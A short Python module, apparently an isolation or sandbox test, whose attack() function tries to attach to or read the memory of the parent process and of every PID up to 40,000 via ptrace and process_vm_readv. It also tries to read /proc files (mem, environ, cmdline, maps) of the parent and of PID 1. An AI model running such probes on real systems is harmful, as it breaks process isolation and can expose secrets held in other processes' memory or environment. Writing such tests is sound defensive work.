"""Read and stop other processes' memory; a prize if any of it can be had."""

import contextlib
import ctypes
import os

PTRACE_SEIZE = 0x4206


def attack():
    library = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_void_p * 2)(id(buffer), 16)
    others = [number for number in range(1, 40_000) if number != os.getpid()]
    for process in (os.getppid(), *others):
        if library.ptrace(PTRACE_SEIZE, process, None, None) == 0 and process:
            return True
        if library.process_vm_readv(process, local, 1, remote, 1, 0) > 0:
            return True
    for process in (os.getppid(), 1):
        for name in ("mem", "environ", "cmdline", "maps"):
            with contextlib.suppress(OSError):
                return open(f"/proc/{process}/{name}", "rb").read(10)
    return False
